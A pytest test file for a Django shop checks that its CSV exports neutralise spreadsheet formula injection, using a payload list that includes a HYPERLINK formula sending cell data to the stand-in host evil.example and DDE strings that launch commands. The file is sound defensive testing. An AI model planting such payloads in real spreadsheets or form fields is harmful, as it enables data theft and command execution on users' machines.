"""Every CSV the shop writes: user-written cells that a spreadsheet would run are inert text."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_model

from tests.wholesale.helpers import business
from tests.workspace.helpers import make_producer, make_user, order_with_lines_of

pytestmark = pytest.mark.django_db

Order = get_model("order", "Order")
ShippingAddress = get_model("order", "ShippingAddress")
Country = get_model("address", "Country")

# A cell starting with any of these is read by spreadsheets as a formula (tab and carriage
# return are stripped first by some of them).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(all_cells, payload):
    """The payload is in the file, only as text: a leading ' keeps it from being run."""
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in all_cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").isdigit() for cell in all_cells)
    text = payload.replace("|", "\\|").strip()  # defusedcsv also escapes | (DDE)
    assert any(cell.startswith("'") and text in cell for cell in all_cells)


def test_the_writer_makes_every_formula_start_inert():
    from shop.core import csvfiles

    out = io.StringIO()
    csvfiles.writer(out).writerow([*PAYLOADS, "-15000", 3, "Mộ Đức"])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[: len(PAYLOADS)] == ["'" + payload.replace("|", "\\|") for payload in PAYLOADS]
    assert row[len(PAYLOADS) :] == ["-15000", "3", "Mộ Đức"]  # numbers and text unchanged


def vietnam():
    country, _created = Country.objects.get_or_create(
        iso_3166_1_a2="VN", defaults={"name": "Việt Nam", "printable_name": "Việt Nam"}
    )
    return country


@pytest.fixture
def orders_with_payloads(db):
    side = make_producer("HTX Nghĩa Hành", "nghiahanh")
    orders = []
    for n, payload in enumerate(PAYLOADS):
        customer = make_user(f"khach{n}")
        customer.first_name, customer.last_name = payload, ""
        customer.email = f"{payload}@ocop.local"
        customer.save()
        order = order_with_lines_of(side, customer=customer)
        address = ShippingAddress.objects.create(
            first_name=payload, line1="Thôn Đông", country=vietnam()
        )
        Order.objects.filter(pk=order.pk).update(shipping_address=address)
        orders.append(order)
    return orders


@pytest.fixture
def staff_client(client):
    client.force_login(
        make_user("ketoan", staff=True, codenames=["view_order", "change_order", "view_userrecord"])
    )
    return client


def test_staff_order_export_is_inert(staff_client, orders_with_payloads):
    all_cells = cells(staff_client.get(reverse("dashboard:order-list") + "?response_format=csv"))
    for payload in PAYLOADS:
        assert_inert(all_cells, payload)


def test_order_report_download_is_inert(staff_client, orders_with_payloads):
    today = timezone.localdate()
    response = staff_client.get(
        reverse("dashboard:reports-index"),
        {
            "report_type": "order_report",
            "date_from": (today - datetime.timedelta(days=1)).isoformat(),
            "date_to": (today + datetime.timedelta(days=1)).isoformat(),
            "download": "true",
        },
    )
    all_cells = cells(response)
    for payload in PAYLOADS:
        assert_inert(all_cells, payload)


def test_producer_stock_template_is_inert(client):
    side = make_producer("HTX Ba Tơ", "bato", products=len(PAYLOADS))
    for product, record, payload in zip(side.products, side.records, PAYLOADS, strict=True):
        product.title = payload
        product.save()
        record.partner_sku = payload[:50]
        record.save()
    client.force_login(side.user)
    all_cells = cells(client.get(reverse("dashboard:workspace-stock-template")))
    for payload in PAYLOADS:
        assert_inert(all_cells, payload)


def test_wholesale_order_template_is_inert(client):
    side = make_producer("HTX Sơn Tịnh", "sontinh", products=3)
    for record, payload in zip(side.records, PAYLOADS[:3], strict=True):
        record.partner_sku = payload[:50]
        record.save()
    buyer = make_user("muasi")
    business(buyer=buyer)
    client.force_login(buyer)
    all_cells = cells(client.get(reverse("wholesale:csv-template")))
    for payload in PAYLOADS[:3]:
        assert_inert(all_cells, payload[:50])
